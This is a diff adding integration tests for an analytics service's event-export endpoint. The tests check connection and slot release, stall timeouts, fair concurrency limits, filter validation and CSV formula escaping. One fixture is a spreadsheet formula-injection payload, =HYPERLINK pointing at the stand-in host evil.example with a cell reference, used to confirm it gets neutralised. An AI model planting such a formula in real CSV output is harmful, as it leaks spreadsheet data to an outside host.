@@ -1,6 +1,11 @@
-import { createRoleTeam, type RoleTeam } from './factories';
+import { once } from 'node:events';
+import { type Socket, connect } from 'node:net';
+import { Client } from 'pg';
+import { ConfigError, loadConfig } from '../src/config';
+import { createRoleTeam, createUser, type RoleTeam, type TestUser } from './factories';
 import { type TestServer, startTestServer } from './harness';
 import { createKey, scalar, track } from './analytics-fixtures';
+import { until } from './until';
 
 let server: TestServer;
 let team: RoleTeam;
@@ -211,6 +216,7 @@ describe('GET /v1/export/events', () => {
     while ((await copying()) > 0 && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 50));
     expect(await copying()).toBe(0);
     expect(Date.now() - abortedAt).toBeLessThan(5000);
+    await until('the slot is given back', () => server.tally.services.exports.running() === 0);
     // And exports work afterwards.
     expect((await get({ ...RANGE, format: 'ndjson' }, editorKey)).status).toBe(200);
   });
@@ -369,5 +375,459 @@ describe('GET /v1/export/events with a filter (the analytics queries’ filter a
     const outsider = await get({ ...DAY, workspaceId: team.teamId, filter: 'nonsense' }, team.stranger.accessToken);
     expect(outsider.status).toBe(404);
     expect(JSON.parse(outsider.text)).toMatchObject({ error: 'NOT_FOUND', message: 'Workspace not found.' });
+  });
+});
+
+// ---------------------------------------------------------------------------------------------
+// Exports cannot be jammed (issue 16, §2): every exit gives the slot and the connection back,
+// stalled readers time out, the slots are shared fairly, CSV cells are not formulas, and a
+// control character in the filter is a clear 400 before anything starts.
+// ---------------------------------------------------------------------------------------------
+
+/**
+ * Events of one day with ~1 KB of properties each: tens of megabytes of export from little
+ * storage (TOAST compresses the padding), far more than the sockets' buffers hold, so a reader
+ * that never reads blocks the server on back-pressure.
+ */
+async function insertBulk(srv: TestServer, workspaceId: string, day: string, rows: number): Promise<void> {
+  await srv.tally.services.events.partitions.ensureFor([new Date(day)]);
+  await srv.tally.db.query(
+    `INSERT INTO events (workspace_id, ts, id, session_id, name, type, properties)
+     SELECT $1, $2::timestamptz + g * interval '1 ms', gen_random_uuid(), 'bulk', 'bulk', 'custom',
+            jsonb_build_object('pad', repeat('x', 1000))
+       FROM generate_series(1, $3::int) AS g`,
+    [workspaceId, day, rows],
+  );
+}
+
+function dayRange(day: string): { from: string; to: string } {
+  const from = new Date(day);
+  return { from: from.toISOString(), to: new Date(from.getTime() + 24 * 3600 * 1000).toISOString() };
+}
+
+/** Backends of the server's database that run an export's COPY (waiting or not). */
+function copyBackends(srv: TestServer): Promise<number> {
+  return scalar(
+    srv,
+    `SELECT count(*) AS n FROM pg_stat_activity
+      WHERE datname = current_database() AND pid <> pg_backend_pid() AND query LIKE 'COPY (%'`,
+    [],
+  );
+}
+
+/** Slots taken on the server: all of them, or one workspace's. */
+function slots(srv: TestServer, workspaceId?: string): number {
+  return srv.tally.services.exports.running(workspaceId);
+}
+
+interface StalledReader {
+  socket: Socket;
+  /** Everything received once `drain()` was called. */
+  drain(): Promise<Buffer>;
+}
+
+/**
+ * Sends an export request over a raw socket and never reads the answer: after the socket's
+ * buffers fill up, the server is blocked on back-pressure, as with a client that stopped reading.
+ */
+async function stalledReader(
+  srv: TestServer,
+  params: Record<string, string>,
+  credential: string,
+): Promise<StalledReader> {
+  const { hostname, port } = new URL(srv.url);
+  const socket = connect({ host: hostname, port: Number(port) });
+  socket.on('error', () => undefined); // a reset by the server is what some tests wait for
+  await once(socket, 'connect');
+  socket.write(
+    `GET /v1/export/events?${new URLSearchParams(params).toString()} HTTP/1.1\r\n` +
+      `Host: ${hostname}:${port}\r\nAuthorization: Bearer ${credential}\r\nConnection: close\r\n\r\n`,
+  );
+  return {
+    socket,
+    async drain() {
+      const chunks: Buffer[] = [];
+      socket.on('data', (chunk: Buffer) => chunks.push(chunk));
+      if (!socket.closed) await once(socket, 'close');
+      return Buffer.concat(chunks);
+    },
+  };
+}
+
+/** A chunked HTTP response that was cut before its end has no terminating zero-length chunk. */
+function isCutResponse(raw: Buffer): boolean {
+  return raw.subarray(0, 15).toString() === 'HTTP/1.1 200 OK' && !raw.subarray(-5).equals(Buffer.from('0\r\n\r\n'));
+}
+
+async function exportAs(
+  srv: TestServer,
+  params: Record<string, string>,
+  credential: string,
+): Promise<{ status: number; headers: Headers; text: string }> {
+  const response = await fetch(`${srv.url}/v1/export/events?${new URLSearchParams(params).toString()}`, {
+    headers: { authorization: `Bearer ${credential}` },
+  });
+  return { status: response.status, headers: response.headers, text: await response.text() };
+}
+
+describe('an export always gives its slot and its database connection back', () => {
+  const BULK = dayRange('2026-04-06T00:00:00Z');
+  /** The five events of the filter tests. */
+  const SMALL = dayRange('2026-04-03T00:00:00Z');
+  const goodExport = async (format: string) => {
+    const res = await get({ ...SMALL, format }, editorKey);
+    expect(res.status).toBe(200);
+    expect(res.text.split(format === 'csv' ? '\r\n' : '\n')).toHaveLength(format === 'csv' ? 7 : 6);
+  };
+
+  beforeAll(async () => {
+    await insertBulk(server, team.teamId, BULK.from, 30_000);
+  });
+
+  it('a filter with NUL (the failure reported) is refused; six in a row, and exports still work', async () => {
+    for (let i = 0; i < 6; i += 1) {
+      const res = await get({ ...RANGE, format: 'ndjson', filter: JSON.stringify({ names: ['a\u0000'] }) }, editorKey);
+      expect(res.status).toBe(400);
+    }
+    expect(slots(server)).toBe(0);
+    await goodExport('ndjson');
+  });
+
+  it('a COPY that fails mid-stream (six times, both formats) frees its slot and connection', async () => {
+    for (const format of ['ndjson', 'ndjson', 'ndjson', 'ndjson', 'csv', 'csv']) {
+      const response = await fetch(exportUrl({ ...BULK, format }), {
+        headers: { authorization: `Bearer ${editorKey}` },
+      });
+      expect(response.status).toBe(200);
+      const reader = response.body?.getReader();
+      if (!reader) throw new Error('no body');
+      expect((await reader.read()).value?.length).toBeGreaterThan(0);
+      // The COPY is blocked on the unread socket; cancelling it makes the COPY fail.
+      await until('the COPY runs', async () => (await copyBackends(server)) === 1);
+      await server.tally.db.query(
+        `SELECT pg_cancel_backend(pid) FROM pg_stat_activity
+          WHERE datname = current_database() AND query LIKE 'COPY (%'`,
+      );
+      // The response is cut (no clean end), not completed.
+      await expect(
+        (async () => {
+          for (;;) if ((await reader.read()).done) return 'complete';
+        })(),
+      ).rejects.toThrow();
+      await until('the slot is free', () => slots(server) === 0);
+      await until('the connection is closed', async () => (await copyBackends(server)) === 0);
+    }
+    expect(slots(server, team.teamId)).toBe(0);
+    await goodExport('ndjson');
+    await goodExport('csv');
+  });
+
+  it.each(['csv', 'ndjson'])(
+    'a %s COPY that fails before its first byte answers JSON, not the file (no Fastify error leaks)',
+    async (format) => {
+      // Hold the events table so that the COPY waits, then cancel it while it waits.
+      const locker = new Client({ connectionString: server.databaseUrl });
+      await locker.connect();
+      try {
+        await locker.query('BEGIN');
+        await locker.query('LOCK TABLE events IN ACCESS EXCLUSIVE MODE');
+        const pending = exportAs(server, { ...RANGE, format }, editorKey);
+        await until('the COPY waits for the lock', async () => (await copyBackends(server)) === 1);
+        await locker.query(
+          `SELECT pg_cancel_backend(pid) FROM pg_stat_activity
+            WHERE datname = current_database() AND query LIKE 'COPY (%'`,
+        );
+        const res = await pending;
+        expect(res.status).toBe(500);
+        expect(res.headers.get('content-type')).toContain('application/json');
+        expect(res.headers.get('content-disposition')).toBeNull();
+        expect(JSON.parse(res.text)).toMatchObject({ error: 'INTERNAL_SERVER_ERROR' });
+      } finally {
+        await locker.query('ROLLBACK');
+        await locker.end();
+      }
+      await until('the slot is free', () => slots(server) === 0);
+      await goodExport(format);
+    },
+  );
+});
+
+describe('CSV cells that a spreadsheet would run as formulas', () => {
+  const DAY = dayRange('2026-04-07T00:00:00Z');
+  const id = (n: number) => `00000000-0000-4000-8000-0000000000c${n}`;
+  const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
+  const EVENTS = [
+    {
+      id: id(1),
+      sessionId: '@session',
+      name: HYPERLINK,
+      type: '+tool',
+      userId: '-user',
+      durationMs: 1.5,
+      status: 'ok',
+      properties: { formula: '=1+2', '@key': '-3' },
+    },
+    { id: id(2), sessionId: 's', name: '\tcmd', type: 'custom', userId: '@u' },
+    { id: id(3), sessionId: 's', name: '\rcmd', type: 'custom' },
+    { id: id(4), sessionId: 's', name: 'a=b+c-d@e', type: 'custom', userId: 'plain' },
+  ].map((event, i) => ({ ...event, timestamp: `2026-04-07T10:0${i}:00.000Z` }));
+
+  beforeAll(async () => {
+    await track(server, editorKey, { events: EVENTS });
+    // A negative number (the ingest takes none, but a number column is never a formula).
+    await server.tally.db.query(
+      `INSERT INTO events (workspace_id, ts, id, session_id, name, type, duration_ms)
+       VALUES ($1, '2026-04-07T10:05:00Z', $2, 's', 'negative', 'custom', -5)`,
+      [team.teamId, id(5)],
+    );
+  });
+
+  it('starts every text cell beginning with = + - @ tab or CR with a quote; numbers and JSON stay', async () => {
+    const res = await get({ ...DAY, format: 'csv' }, editorKey);
+    expect(res.status).toBe(200);
+    expect(res.text).toBe(
+      [
+        'id,timestamp,sessionId,name,type,userId,durationMs,status,properties',
+        `${id(1)},2026-04-07T10:00:00.000Z,'@session,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",'+tool,'-user,1.5,ok,"{""@key"": ""-3"", ""formula"": ""=1+2""}"`,
+        `${id(2)},2026-04-07T10:01:00.000Z,s,'\tcmd,custom,'@u,,,`,
+        `${id(3)},2026-04-07T10:02:00.000Z,s,"'\rcmd",custom,,,,`,
+        `${id(4)},2026-04-07T10:03:00.000Z,s,a=b+c-d@e,custom,plain,,,`,
+        `${id(5)},2026-04-07T10:05:00.000Z,s,negative,custom,,-5,,`,
+        '',
+      ].join('\r\n'),
+    );
+  });
+
+  it('NDJSON stays exact: the values as they were sent', async () => {
+    const res = await get({ ...DAY, format: 'ndjson' }, editorKey);
+    expect(res.status).toBe(200);
+    const rows = res.text
+      .split('\n')
+      .filter(Boolean)
+      .map((line) => JSON.parse(line) as Record<string, unknown>);
+    expect(rows.slice(0, 4)).toEqual(
+      EVENTS.map((event) => ({
+        userId: null,
+        durationMs: null,
+        status: null,
+        properties: null,
+        ...event,
+      })),
+    );
+    expect(rows[4]).toMatchObject({ name: 'negative', durationMs: -5 });
+  });
+});
+
+describe('a control character in the export filter', () => {
+  const GQL_FILTER = `query($w: ID!, $range: DateRangeInput!, $filter: EventFilterInput) {
+    workspace(id: $w) { analytics(range: $range, filter: $filter) { activity(first: 1) { nodes { id } } } } }`;
+
+  it.each<[string, string, Record<string, unknown>]>([
+    ['csv', 'NUL in a name', { names: ['a\u0000'] }],
+    ['ndjson', 'NUL in a name', { names: ['a\u0000'] }],
+    ['csv', 'a lone surrogate in a value', { properties: [{ key: 'q', op: 'EQ', value: 'x\ud800' }] }],
+    ['ndjson', 'a lone surrogate in a value', { properties: [{ key: 'q', op: 'EQ', value: 'x\ud800' }] }],
+    ['csv', 'an escape character in a key', { properties: [{ key: 'q\u001b', op: 'EXISTS' }] }],
+  ])(
+    '%s, %s: 400 BAD_USER_INPUT in JSON, as GraphQL says it, before any export starts',
+    async (format, _kind, value) => {
+      const gql = await server.gql(
+        GQL_FILTER,
+        { w: team.teamId, range: RANGE, filter: value },
+        {
+          token: team.viewer.accessToken,
+        },
+      );
+      expect(gql.errors?.[0]?.extensions?.['code']).toBe('BAD_USER_INPUT');
+      const gqlMessage = gql.errors?.[0]?.message ?? '';
+      expect(gqlMessage.startsWith('Variable $filter ')).toBe(true);
+
+      const started = server.tally.services.exports.started;
+      const res = await get({ ...RANGE, format, filter: JSON.stringify(value) }, editorKey);
+      expect(res.status).toBe(400);
+      expect(res.headers.get('content-type')).toContain('application/json');
+      expect(res.headers.get('content-disposition')).toBeNull();
+      expect(JSON.parse(res.text)).toEqual({
+        error: 'BAD_USER_INPUT',
+        field: 'filter',
+        message: gqlMessage.replace('Variable $filter ', 'The filter '),
+      });
+      expect(server.tally.services.exports.started).toBe(started);
+      expect(slots(server)).toBe(0);
+    },
+  );
+});
+
+describe('export settings', () => {
+  it('default to 4 exports per instance, 2 per workspace, 30 s without progress', () => {
+    expect(loadConfig({}).exportLimits).toEqual({
+      maxConcurrent: 4,
+      maxConcurrentPerWorkspace: 2,
+      stallTimeoutSeconds: 30,
+    });
+  });
+
+  it.each<[Record<string, string>, RegExp]>([
+    [{ EXPORT_MAX_CONCURRENT: '0' }, /^EXPORT_MAX_CONCURRENT: /],
+    [{ EXPORT_MAX_CONCURRENT: '50' }, /^EXPORT_MAX_CONCURRENT: /],
+    [{ EXPORT_STALL_TIMEOUT_SECONDS: '0' }, /^EXPORT_STALL_TIMEOUT_SECONDS: /],
+    [{ EXPORT_STALL_TIMEOUT_SECONDS: 'soon' }, /^EXPORT_STALL_TIMEOUT_SECONDS: /],
+    [
+      { EXPORT_MAX_CONCURRENT: '2', EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '3' },
+      /^EXPORT_MAX_CONCURRENT_PER_WORKSPACE: must be at most EXPORT_MAX_CONCURRENT \(2\)/,
+    ],
+  ])('refuse %j, naming the setting', (env, message) => {
+    let error: unknown;
+    try {
+      loadConfig(env);
+    } catch (caught) {
+      error = caught;
+    }
+    expect(error).toBeInstanceOf(ConfigError);
+    expect((error as ConfigError).problems).toEqual([expect.stringMatching(message)]);
+  });
+});
+
+describe('export slots are shared fairly, and a stopping server ends the exports', () => {
+  let fair: TestServer;
+  let a: TestUser;
+  let b: TestUser;
+  let c: TestUser;
+  const BULK = dayRange('2026-04-06T00:00:00Z');
+  const SMALL = dayRange('2026-04-08T00:00:00Z');
+
+  beforeAll(async () => {
+    // Stalled readers never time out here: only the client or the stop ends them.
+    fair = await startTestServer({
+      EXPORT_MAX_CONCURRENT: '3',
+      EXPORT_MAX_CONCURRENT_PER_WORKSPACE: '2',
+      EXPORT_STALL_TIMEOUT_SECONDS: '3600',
+    });
+    [a, b, c] = await Promise.all([createUser(fair), createUser(fair), createUser(fair)]);
+    await insertBulk(fair, a.personalWorkspaceId, BULK.from, 30_000);
+    await insertBulk(fair, b.personalWorkspaceId, BULK.from, 30_000);
+    await insertBulk(fair, c.personalWorkspaceId, SMALL.from, 10);
+  });
+  afterAll(() => fair.close());
+
+  const bulkOf = (user: TestUser) => ({ ...BULK, workspaceId: user.personalWorkspaceId, format: 'ndjson' });
+
+  it('one workspace holds at most its share; others still export; the instance limit holds too', async () => {
+    const holders = [
+      await stalledReader(fair, bulkOf(a), a.accessToken),
+      await stalledReader(fair, bulkOf(a), a.accessToken),
+    ];
+    await until('A holds two slots', () => slots(fair, a.personalWorkspaceId) === 2);
+
+    const third = await exportAs(fair, bulkOf(a), a.accessToken);
+    expect(third.status).toBe(429);
+    expect(third.headers.get('retry-after')).toBe('5');
+    expect(JSON.parse(third.text)).toEqual({
+      error: 'RATE_LIMITED',
+      message: 'This workspace already runs 2 exports, the most it may run at once. Try again in 5 seconds.',
+      retryAfterSeconds: 5,
+    });
+
+    // Another workspace is not locked out by A.
+    const small = { ...SMALL, workspaceId: c.personalWorkspaceId, format: 'ndjson' };
+    const other = await exportAs(fair, small, c.accessToken);
+    expect(other.status).toBe(200);
+    expect(other.text.split('\n')).toHaveLength(11);
+
+    // The last slot of the instance goes to B; then nobody gets one.
+    holders.push(await stalledReader(fair, bulkOf(b), b.accessToken));
+    await until('B holds a slot', () => slots(fair) === 3);
+    const full = await exportAs(fair, small, c.accessToken);
+    expect(full.status).toBe(429);
+    expect(full.headers.get('retry-after')).toBe('5');
+    expect(JSON.parse(full.text)).toMatchObject({
+      error: 'RATE_LIMITED',
+      message: expect.stringMatching(/^Too many exports are running/),
+    });
+
+    // Clients that go away give every slot and connection back.
+    for (const holder of holders) holder.socket.destroy();
+    await until('the slots are free', () => slots(fair) === 0);
+    await until('the COPYs are gone', async () => (await copyBackends(fair)) === 0);
+    expect((await exportAs(fair, small, c.accessToken)).status).toBe(200);
+  });
+
+  it('stopping the server ends stalled exports and closes their connections', async () => {
+    const holder = await stalledReader(fair, bulkOf(a), a.accessToken);
+    await until('the export runs', () => slots(fair) === 1);
+    // Without ending the export, the stop would wait for it forever (its reader never reads).
+    let stopped = false;
+    const stopping = fair.tally.close().then(() => {
+      stopped = true;
+    });
+    await until('the server stops', () => stopped);
+    await stopping;
+    expect(slots(fair)).toBe(0);
+    expect(isCutResponse(await holder.drain())).toBe(true);
+  });
+});
+
+describe('an export whose reader stalls', () => {
+  let stall: TestServer;
+  let owner: TestUser;
+  const BULK = dayRange('2026-04-06T00:00:00Z');
+
+  beforeAll(async () => {
+    stall = await startTestServer({ EXPORT_STALL_TIMEOUT_SECONDS: '2' });
+    owner = await createUser(stall);
+    // ~14 MB of NDJSON: three times what the sockets' buffers hold.
+    await insertBulk(stall, owner.personalWorkspaceId, BULK.from, 12_000);
+  });
+  afterAll(() => stall.close());
+
+  const bulk = () => ({ ...BULK, workspaceId: owner.personalWorkspaceId, format: 'ndjson' });
+
+  it('is ended after the stall timeout: slots, connections and transactions are freed', async () => {
+    const readers = [
+      await stalledReader(stall, bulk(), owner.accessToken),
+      await stalledReader(stall, bulk(), owner.accessToken),
+    ];
+    await until('both exports started', () => stall.tally.services.exports.started === 2);
+    await until('the stalled exports are ended', () => slots(stall) === 0);
+    await until('their COPYs are gone', async () => (await copyBackends(stall)) === 0);
+    // No transaction of the export is left open either.
+    expect(
+      await scalar(
+        stall,
+        `SELECT count(*) AS n FROM pg_stat_activity
+          WHERE datname = current_database() AND application_name = 'tally-events' AND state LIKE 'idle in transaction%'`,
+        [],
+      ),
+    ).toBe(0);
+    for (const reader of readers) expect(isCutResponse(await reader.drain())).toBe(true);
+    // The workspace's slots are back.
+    const again = await exportAs(stall, bulk(), owner.accessToken);
+    expect(again.status).toBe(200);
+    expect(again.text.split('\n')).toHaveLength(12_001);
+  });
+
+  it('a slow reader that keeps taking bytes is not ended, however long it takes', async () => {
+    const response = await fetch(`${stall.url}/v1/export/events?${new URLSearchParams(bulk()).toString()}`, {
+      headers: { authorization: `Bearer ${owner.accessToken}` },
+    });
+    const reader = response.body?.getReader();
+    if (!reader) throw new Error('no body');
+    let bytes = 0;
+    let sincePause = 0;
+    let lines = 0;
+    for (;;) {
+      const { done, value } = await reader.read();
+      if (done) break;
+      bytes += value.length;
+      sincePause += value.length;
+      for (const byte of value) if (byte === 0x0a) lines += 1;
+      // A client that pauses (well under the timeout) after every 1.5 MB: far longer than the timeout in all.
+      if (sincePause > 1_500_000) {
+        sincePause = 0;
+        await new Promise((resolve) => setTimeout(resolve, 500));
+      }
+    }
+    expect(bytes).toBeGreaterThan(10_000_000);
+    expect(lines).toBe(12_000);
   });
 });
